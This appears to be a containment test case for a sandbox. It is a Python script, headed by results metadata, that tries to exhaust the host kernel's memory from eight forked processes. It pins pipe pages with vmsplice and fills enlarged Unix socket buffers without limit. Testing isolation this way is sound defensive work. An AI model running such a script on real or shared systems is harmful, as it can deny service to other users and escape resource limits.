# class:     memory
# attack:    memory of the kernel's: pages in pipes that are mapped no more, sockets that nobody
#            reads, in many processes
# contained: no page gets into a pipe, buffers keep their size, and sockets count as memory
# added to:  stub
# ends:      from outside
# suite:     model: failed, train: failed, boundary: failed
# verdict:   model: failed, train: failed, boundary: failed

import contextlib
import ctypes
import mmap
import os
import socket
import time

libc = ctypes.CDLL(None)
HELD = mmap.mmap(-1, 4 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
HELD.write(b"x" * (4 << 20))
PART = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.c_char.from_buffer(HELD)), 4096)
if libc.vmsplice(os.pipe()[1], PART, ctypes.c_size_t(1), 0) > 0:
    os._exit(0)
for _ in range(8):
    if os.fork() == 0:
        break
PAIRS = []
with contextlib.suppress(OSError):
    while True:
        PAIRS += socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for end in PAIRS[-2:]:
            end.setblocking(False)
            with contextlib.suppress(PermissionError):
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            with contextlib.suppress(BlockingIOError):
                while True:
                    end.send(b"x" * 60_000)
time.sleep(600)
